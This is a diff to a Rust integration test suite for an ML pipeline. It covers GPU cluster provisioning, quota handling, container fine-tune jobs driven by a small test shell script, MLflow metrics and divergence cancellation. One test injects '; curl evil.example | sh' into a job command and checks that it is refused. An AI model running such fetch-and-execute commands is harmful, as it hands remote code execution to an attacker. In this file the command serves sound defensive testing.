@@ -1,6 +1,7 @@
 //! The ML functions driven in-process through `functions::dispatch`, on the real local adapters
 //! (SQLite workspace, local broker, allow-listed fetcher) in a temporary directory: the happy
-//! path from ProvisionGpuCluster to a model folder, and every kind of bad input.
+//! path from ProvisionGpuCluster to a model folder, `trainer: "container"` jobs running a small
+//! shell command of this test's own (no socwire trainer in it), and every kind of bad input.
 
 use serde_json::{json, Value};
 use socwire::context::Context;
@@ -49,7 +50,9 @@ fn fixture_with(quota: u32) -> Fixture {
         "SOCWIRE_DATA_DIR" => Some(data.clone()),
         "SOCWIRE_ML_POLL_SECS" => Some("1".into()),
         "SOCWIRE_ML_MAX_ASSET_BYTES" => Some("100000".into()),
-        "SOCWIRE_ML_MAX_UNPACKED_BYTES" => Some("100000".into()),
+        // Room for a job's output (a model and a 10 MB eval.json); archives that unpack to
+        // more are refused.
+        "SOCWIRE_ML_MAX_UNPACKED_BYTES" => Some((32u64 << 20).to_string()),
         _ => None,
     })
     .unwrap();
@@ -179,12 +182,23 @@ fn tar_gz(entries: &[(&str, &[u8])]) -> Vec<u8> {
 }
 
 fn provision(id: &str, max_nodes: u32) -> Value {
-    json!({"commandId": id, "schemaVersion": 1, "clusterName": "gpu-a", "vmSize": "Standard_NC4as_T4_v3", "maxNodes": max_nodes})
+    json!({"commandId": id, "schemaVersion": 1, "clusterName": "gpu-a", "vmSize": "Standard_NC24ads_A100_v4", "maxNodes": max_nodes})
+}
+
+/// The sha-256 of a `file://` asset that exists (so the command verifies it), else a
+/// placeholder that passes validation (the fetch refuses those URLs first).
+fn sha_of(url: &str) -> String {
+    url::Url::parse(url)
+        .ok()
+        .and_then(|u| u.to_file_path().ok())
+        .filter(|p| p.is_file())
+        .map(|p| socwire::ml::staging::sha256_file(&p).unwrap())
+        .unwrap_or_else(|| "0".repeat(64))
 }
 
 fn fine_tune(id: &str, url: &str) -> Value {
-    json!({"commandId": id, "schemaVersion": 1, "clusterName": "gpu-a", "model": "ct", "assets": [{"url": url}],
-           "hyperParameters": {"epochs": 2}})
+    json!({"commandId": id, "schemaVersion": 1, "clusterName": "gpu-a", "model": "ct",
+           "assets": [{"url": url, "sha256": sha_of(url)}], "hyperParameters": {"epochs": 2}})
 }
 
 async fn ready_cluster(f: &Fixture) {
@@ -220,7 +234,7 @@ async fn provisioning_follows_up_by_itself_and_one_command_id_makes_one_cluster(
     let ev = events(&done);
     assert_eq!(ev.len(), 1, "{done:?}");
     assert_eq!(ev[0]["eventType"], "socwire.ClusterReady");
-    assert_eq!(ev[0]["data"]["vmSize"], "Standard_NC4as_T4_v3");
+    assert_eq!(ev[0]["data"]["vmSize"], "Standard_NC24ads_A100_v4");
     // Redelivery of the original command and of the follow-up: nothing new.
     for body in [provision("p-1", 2), follow] {
         let again = f
@@ -236,15 +250,17 @@ async fn provisioning_follows_up_by_itself_and_one_command_id_makes_one_cluster(
     assert_eq!(f.scheduled(), 1, "no further follow-ups");
 }
 
+/// A quota too small for `minNodes` is refused at creation. One too small for the node a job
+/// needs bites at scale-up, as Azure's core quota does: the cluster reads Succeeded, its scale
+/// error says why no node came, and the job watch cancels the job at once (not after the queue
+/// deadline) with `socwire.ClusterFailed` and `socwire.FineTuneFailed` carrying the reason.
 #[tokio::test]
-async fn quota_exceeded_is_set_aside_with_the_reason_and_reported() {
-    let f = fixture_with(4);
+async fn quota_at_creation_is_refused_and_at_scale_up_cancels_the_waiting_job() {
+    let f = fixture_with(0);
+    let mut warm = provision("p-q", 2);
+    warm["minNodes"] = json!(1);
     let r = f
-        .call(
-            "provision-gpu-cluster",
-            Some("ProvisionGpuCluster"),
-            &provision("p-q", 16),
-        )
+        .call("provision-gpu-cluster", Some("ProvisionGpuCluster"), &warm)
         .await;
     let rej = reject(&r).expect("set aside");
     assert!(
@@ -254,6 +270,34 @@ async fn quota_exceeded_is_set_aside_with_the_reason_and_reported() {
     assert_eq!(rej["key"], "p-q");
     assert_eq!(events(&r)[0]["eventType"], "socwire.ClusterFailed");
     assert!(f.ws.clusters().unwrap().is_empty());
+
+    // minNodes 0: created; the quota shows when the job asks for a node.
+    ready_cluster(&f).await;
+    let url = f.base_model_archive(&[("base.safetensors", b"not read before a node exists")]);
+    let mut cmd = fine_tune("ft-q", &url);
+    let r = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
+    let job_id = events(&r)[0]["data"]["jobId"].as_str().unwrap().to_string();
+    let cluster = f.ws.get_cluster("gpu-a").await.unwrap().unwrap();
+    assert_eq!(cluster.state, "Succeeded");
+    let scale = cluster.scale_error.expect("a scale error");
+    assert!(scale.contains("ClusterCoreQuotaReached"), "{scale}");
+
+    cmd["followUp"] = json!({"kind": "jobWatch", "attempt": 1,
+        "startedMs": chrono::Utc::now().timestamp_millis(), "jobId": job_id});
+    let w = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
+    let ev = events(&w);
+    assert_eq!(ev.len(), 2, "{w:?}");
+    assert_eq!(ev[0]["eventType"], "socwire.ClusterFailed");
+    assert!(ev[0]["data"]["reason"].as_str().unwrap().contains("quota"));
+    assert_eq!(ev[1]["eventType"], "socwire.FineTuneFailed");
+    assert!(ev[1]["data"]["reason"]
+        .as_str()
+        .unwrap()
+        .contains("cannot add nodes"));
+    assert_eq!(
+        f.ws.get_job(&job_id).await.unwrap().unwrap().status,
+        "CancelRequested"
+    );
 }
 
 #[tokio::test]
@@ -330,7 +374,7 @@ async fn assets_off_the_allow_list_or_unsafe_or_oversized_are_refused() {
     let outside = f.dir.path().join("elsewhere.tar.gz");
     std::fs::write(&outside, tar_gz(&[("m.safetensors", b"x")])).unwrap();
     let good = f.base_model_archive(&[("m.safetensors", b"x")]);
-    let big = vec![0u8; 200_000];
+    let big = vec![0u8; 40 << 20];
     let cases = [
         (
             "https://evil.example.com/model.zip".to_string(),
@@ -568,4 +612,350 @@ async fn queue_deadline_and_cancel_job_stop_a_job() {
         )
         .await;
     assert!(c.logs[0].contains("already Canceled"), "{c:?}");
+}
+
+/// The training entry of this test's own "container": a POSIX shell script, no socwire
+/// trainer in it. It copies its model from the assets to `$1` (the outputs), logs MLflow
+/// metrics the way MLflow's file store keeps them (`<store>/<experiment>/<run>/metrics/<key>`,
+/// `timestamp value step` per line) under `$MLFLOW_TRACKING_URI`, and writes `eval.json`
+/// according to `$2`: `good`, `none`, `nan`, `huge`, or `fail` (exit 1).
+const TRAIN_SH: &str = r#"#!/bin/sh
+set -eu
+out="$1"; mode="$2"; epochs="$3"
+store="${MLFLOW_TRACKING_URI#file://}/0/run-1/metrics"
+mkdir -p "$store" "$out"
+here="$(dirname "$0")"
+[ -f "$here/model.onnx" ] && cp "$here/model.onnx" "$out/model.onnx"
+cp "$here/weights.bin" "$out/weights.bin"
+printf '1000 0.69 1\n1001 0.52 2\n' > "$store/loss"
+printf '1002 0.71 0\n1003 0.93 %s\n' "$epochs" > "$store/average_precision"
+printf '1002 0.60 0\n1003 0.35 %s\n' "$epochs" > "$store/eval_loss"
+printf '1004 0.71 0\n' > "$store/average_precision_before"
+printf '1005 0.93 0\n' > "$store/average_precision_after"
+echo "trained $epochs epochs"
+case "$mode" in
+  good) echo '{"averagePrecisionBefore": 0.71, "averagePrecisionAfter": 0.93}' > "$out/eval.json" ;;
+  nan) echo '{"averagePrecisionBefore": NaN, "averagePrecisionAfter": 0.93}' > "$out/eval.json" ;;
+  huge) head -c 10485760 /dev/zero | tr '\0' ' ' > "$out/eval.json" ;;
+  fail) echo "CUDA error: no kernel image is available" >&2; exit 1 ;;
+  none) ;;
+esac
+"#;
+
+impl Fixture {
+    /// The container's assets: the training script, weights, and (optionally) an ONNX model.
+    fn container_assets(&self, onnx: Option<&[u8]>) -> String {
+        let mut entries: Vec<(&str, &[u8])> = vec![
+            ("train.sh", TRAIN_SH.as_bytes()),
+            ("weights.bin", b"pretend weights"),
+        ];
+        if let Some(bytes) = onnx {
+            entries.push(("model.onnx", bytes));
+        }
+        self.base_model_archive(&entries)
+    }
+
+    /// Submits a container fine-tune, runs its job in-process and delivers its Completed or
+    /// Failed event; returns the job id, the job's final status and the ml-run-status answer.
+    async fn run_container(&self, body: Value) -> (String, String, InvocationResponse) {
+        let r = self.call("run-fine-tune", Some("RunFineTune"), &body).await;
+        assert!(reject(&r).is_none(), "{r:?}");
+        let job_id = events(&r)[0]["data"]["jobId"].as_str().unwrap().to_string();
+        let status = socwire::ml::runner::run_job(self.dir.path(), &job_id).unwrap();
+        let mut req = InvocationRequest::default();
+        req.data.insert(
+            "event".into(),
+            socwire::ml::runner::run_status_event(&job_id, "ct", &json!({}), &status),
+        );
+        let answer = dispatch("ml-run-status", &self.ctx, req).await.unwrap();
+        (job_id, status, answer)
+    }
+}
+
+fn container_fine_tune(id: &str, url: &str, mode: &str, extra: Value) -> Value {
+    let mut body = json!({"commandId": id, "schemaVersion": 1, "clusterName": "gpu-a", "model": "clara-ct",
+        "trainer": "container", "image": "nvcr.io/nvidia/clara-train-sdk:v4.1",
+        "command": format!("sh {{assets}}/train.sh {{outputs}} {mode} {{epochs}}"),
+        "assets": [{"url": url, "sha256": sha_of(url)}], "hyperParameters": {"epochs": 3}});
+    if let (Some(b), Some(e)) = (body.as_object_mut(), extra.as_object()) {
+        b.extend(e.clone());
+    }
+    body
+}
+
+/// `trainer: "container"` end to end on the local back end: the command runs as a local
+/// process with the placeholders filled, its eval.json gives AP before and after, its
+/// model.onnx is registered as ONNX (interface read from the file), every artifact is listed
+/// with its sha-256; with `evaluation: "mlflow"` the AP comes from the job's MLflow metrics and
+/// a job without ONNX is registered as its artifacts.
+#[tokio::test]
+async fn a_container_command_of_our_own_is_fine_tuned_and_exported() {
+    let f = fixture();
+    ready_cluster(&f).await;
+    // Any real ONNX file will do as the container's model; this one happens to be at hand.
+    let st = f.dir.path().join("m.safetensors");
+    let cfg = socwire_trainer::DataConfig {
+        pretrain_samples: 2,
+        pretrain_epochs: 1,
+        ..socwire_trainer::DataConfig::tiny()
+    };
+    socwire_trainer::pretrain_base_model_with(1, &cfg, &st).unwrap();
+    let onnx_path = f.dir.path().join("m.onnx");
+    socwire_trainer::export_onnx(&st, &onnx_path).unwrap();
+    let onnx = std::fs::read(&onnx_path).unwrap();
+
+    let url = f.container_assets(Some(&onnx));
+    let (job_id, status, done) = f
+        .run_container(container_fine_tune("ct-1", &url, "good", json!({})))
+        .await;
+    assert_eq!(status, "Completed");
+    let log = std::fs::read_to_string(f.ws.job_dir(&job_id).join("job.log")).unwrap_or_default();
+    let export = f
+        .sent_now()
+        .into_iter()
+        .find(|(s, _)| s == "ExportModel")
+        .unwrap_or_else(|| panic!("no ExportModel: {done:?} {log}"))
+        .1;
+    let exported = f.call("export-model", Some("ExportModel"), &export).await;
+    assert!(reject(&exported).is_none(), "{exported:?}");
+    let ev = events(&exported)[0].clone();
+    assert_eq!(ev["data"]["format"], "onnx");
+    assert_eq!(ev["data"]["averagePrecisionBefore"], 0.71);
+    assert_eq!(ev["data"]["averagePrecisionAfter"], 0.93);
+    let folder = Path::new(ev["data"]["location"].as_str().unwrap()).to_path_buf();
+    let meta: Value =
+        serde_json::from_slice(&std::fs::read(folder.join("metadata.json")).unwrap()).unwrap();
+    assert_eq!(meta["trainer"], "container");
+    assert_eq!(meta["inputName"], "volume");
+    assert_eq!(meta["evaluation"], "evalJson");
+    assert_eq!(
+        meta["command"],
+        "sh {assets}/train.sh {outputs} good {epochs}"
+    );
+    assert_eq!(
+        meta["lineage"]["image"],
+        "nvcr.io/nvidia/clara-train-sdk:v4.1"
+    );
+    let files: Vec<&str> = meta["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["path"].as_str().unwrap())
+        .collect();
+    assert_eq!(files, ["eval.json", "model.onnx", "weights.bin"]);
+    assert_eq!(
+        meta["files"][2]["sha256"],
+        socwire::ml::staging::sha256_file(&folder.join("weights.bin")).unwrap()
+    );
+    assert!(folder.join("model.onnx").is_file());
+    // The placeholder {epochs} reached the command as the hyper-parameter.
+    let history =
+        f.ws.metric_history(&job_id, "average_precision")
+            .await
+            .unwrap();
+    assert_eq!(history.last().unwrap().step, 3);
+
+    // evaluation "mlflow", no ONNX: AP from the MLflow metrics, registered as artifacts.
+    let url = f.container_assets(None);
+    let (_, status, _) = f
+        .run_container(container_fine_tune(
+            "ct-2",
+            &url,
+            "none",
+            json!({"evaluation": "mlflow"}),
+        ))
+        .await;
+    assert_eq!(status, "Completed");
+    let export = f
+        .sent_now()
+        .into_iter()
+        .find(|(s, _)| s == "ExportModel")
+        .unwrap()
+        .1;
+    let exported = f.call("export-model", Some("ExportModel"), &export).await;
+    let ev = events(&exported)[0].clone();
+    assert_eq!(ev["data"]["format"], "artifacts", "{exported:?}");
+    assert_eq!(ev["data"]["averagePrecisionAfter"], 0.93);
+    assert_eq!(f.ws.models().unwrap().len(), 2);
+}
+
+/// A container job that breaks the contract never hangs: a failing command ends the job
+/// Failed with its exit status in FineTuneFailed; a missing, NaN or 10 MB eval.json is set
+/// aside at export with the reason and reported as FineTuneFailed; and the pipeline's cluster
+/// is scaled back to 0 minimum nodes each time.
+#[tokio::test]
+async fn container_jobs_that_break_the_contract_are_set_aside_and_the_cluster_scaled_back() {
+    let f = fixture();
+    let mut warm = provision("p-w", 2);
+    warm["minNodes"] = json!(1);
+    let r = f
+        .call("provision-gpu-cluster", Some("ProvisionGpuCluster"), &warm)
+        .await;
+    assert!(reject(&r).is_none(), "{r:?}");
+    let min_nodes = |f: &Fixture| f.ws.clusters().unwrap()[0].min_nodes;
+    let url = f.container_assets(None);
+    let pipeline = json!({"parentCommandId": "p-w"});
+
+    let (_, status, failed) = f
+        .run_container(container_fine_tune("cf-1", &url, "fail", pipeline.clone()))
+        .await;
+    assert_eq!(status, "Failed");
+    let ev = events(&failed);
+    assert_eq!(ev[0]["eventType"], "socwire.FineTuneFailed");
+    assert!(
+        ev[0]["data"]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("exited with"),
+        "{failed:?}"
+    );
+    assert!(
+        failed.logs.iter().any(|l| l.contains("scaled back")),
+        "{failed:?}"
+    );
+    assert_eq!(min_nodes(&f), 0);
+
+    for (i, (mode, needle)) in [
+        ("none", "wrote no eval.json"),
+        ("nan", "NaN"),
+        ("huge", "bytes; the evaluation contract allows 65536"),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        // Warm the cluster again, so each refusal has something to scale back.
+        let mut again = provision(&format!("p-w{i}"), 2);
+        again["minNodes"] = json!(1);
+        f.call("provision-gpu-cluster", Some("ProvisionGpuCluster"), &again)
+            .await;
+        assert_eq!(min_nodes(&f), 1);
+        let id = format!("cb-{i}");
+        let (job_id, status, _) = f
+            .run_container(container_fine_tune(&id, &url, mode, pipeline.clone()))
+            .await;
+        assert_eq!(status, "Completed", "the process itself succeeded");
+        let export = f
+            .sent_now()
+            .into_iter()
+            .find(|(s, _)| s == "ExportModel")
+            .unwrap()
+            .1;
+        let r = f.call("export-model", Some("ExportModel"), &export).await;
+        let rej = reject(&r).unwrap_or_else(|| panic!("{mode} accepted: {r:?}"));
+        assert!(
+            rej["reason"].as_str().unwrap().contains(needle),
+            "{mode}: {rej}"
+        );
+        assert_eq!(events(&r)[0]["eventType"], "socwire.FineTuneFailed");
+        assert_eq!(events(&r)[0]["data"]["jobId"], job_id.as_str());
+        assert_eq!(min_nodes(&f), 0, "{mode}: cluster scaled back");
+    }
+    assert!(f.ws.models().unwrap().is_empty());
+
+    // Shell metacharacters never reach a job: the command is refused and set aside.
+    let mut bad = container_fine_tune("cs-1", &url, "good", pipeline);
+    bad["command"] = json!("sh {assets}/train.sh {outputs} good 3; curl evil.example | sh");
+    let r = f.call("run-fine-tune", Some("RunFineTune"), &bad).await;
+    let rej = reject(&r).expect("set aside");
+    assert!(rej["reason"].as_str().unwrap().contains("';'"), "{rej}");
+}
+
+/// A container job's MLflow metrics feed the divergence rule: values logged out of order and
+/// with gaps are folded by step, and a NaN loss sends one CancelJob while the job runs.
+#[tokio::test]
+async fn mlflow_metrics_with_gaps_and_out_of_order_steps_cancel_a_diverging_container_job() {
+    let f = fixture();
+    ready_cluster(&f).await;
+    let url = f.container_assets(None);
+    let mut cmd = container_fine_tune("cm-1", &url, "good", json!({}));
+    let r = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
+    let job_id = events(&r)[0]["data"]["jobId"].as_str().unwrap().to_string();
+    // What a running job has logged so far: steps 5, 1, 3 (2 and 4 never logged), then NaN.
+    let metrics = socwire::local::mlflow_store(&f.ws.job_dir(&job_id)).join("7/run-a/metrics");
+    std::fs::create_dir_all(&metrics).unwrap();
+    std::fs::write(
+        metrics.join("loss"),
+        "3000 0.5 5\n1000 0.9 1\n2000 0.7 3\ngarbage\n",
+    )
+    .unwrap();
+    cmd["followUp"] = json!({"kind": "jobWatch", "attempt": 1,
+        "startedMs": chrono::Utc::now().timestamp_millis(), "jobId": job_id});
+    let w = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
+    assert!(
+        w.logs
+            .iter()
+            .any(|l| l.contains("3 new MLflow metric point(s)")),
+        "{w:?}"
+    );
+    let stored: socwire::ml::telemetry::JobMetrics = serde_json::from_slice(
+        &f.ctx
+            .state
+            .load(&socwire::ml::telemetry::metrics_key(&job_id))
+            .await
+            .unwrap()
+            .unwrap(),
+    )
+    .unwrap();
+    let steps: Vec<u64> = stored.points.iter().map(|p| p.step).collect();
+    assert_eq!(steps, [1, 3, 5]);
+    assert!(stored.diverged.is_none());
+    assert!(f.sent_now().iter().all(|(s, _)| s != "CancelJob"));
+
+    std::fs::write(
+        metrics.join("loss"),
+        "3000 0.5 5\n1000 0.9 1\n2000 0.7 3\n4000 nan 9\n",
+    )
+    .unwrap();
+    cmd["followUp"]["attempt"] = json!(2);
+    let w = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
+    assert!(w.logs.iter().any(|l| l.contains("sent CancelJob")), "{w:?}");
+    let cancel = f
+        .sent_now()
+        .into_iter()
+        .find(|(s, _)| s == "CancelJob")
+        .expect("CancelJob")
+        .1;
+    assert!(
+        cancel["reason"].as_str().unwrap().contains("step 9"),
+        "{cancel}"
+    );
+}
+
+/// socwire's trainer image cannot run below compute capability 8.0: a RunFineTune with it on a
+/// T4 cluster is set aside with the reason, before any asset is staged; a container fine-tune
+/// on the same cluster is submitted.
+#[tokio::test]
+async fn the_socwire_trainer_is_refused_on_a_t4_cluster_and_a_container_job_is_not() {
+    let f = fixture();
+    let mut t4 = provision("p-t4", 1);
+    t4["vmSize"] = json!("Standard_NC4as_T4_v3");
+    let r = f
+        .call("provision-gpu-cluster", Some("ProvisionGpuCluster"), &t4)
+        .await;
+    assert!(reject(&r).is_none(), "{r:?}");
+    let url = f.container_assets(None);
+    let r = f
+        .call(
+            "run-fine-tune",
+            Some("RunFineTune"),
+            &fine_tune("t4-1", &url),
+        )
+        .await;
+    let rej = reject(&r).expect("set aside");
+    assert!(
+        rej["reason"]
+            .as_str()
+            .unwrap()
+            .contains("compute capability 7.5"),
+        "{rej}"
+    );
+    let r = f
+        .call(
+            "run-fine-tune",
+            Some("RunFineTune"),
+            &container_fine_tune("t4-2", &url, "good", json!({})),
+        )
+        .await;
+    assert!(reject(&r).is_none(), "{r:?}");
+    assert_eq!(f.ws.jobs().unwrap().len(), 1);
 }
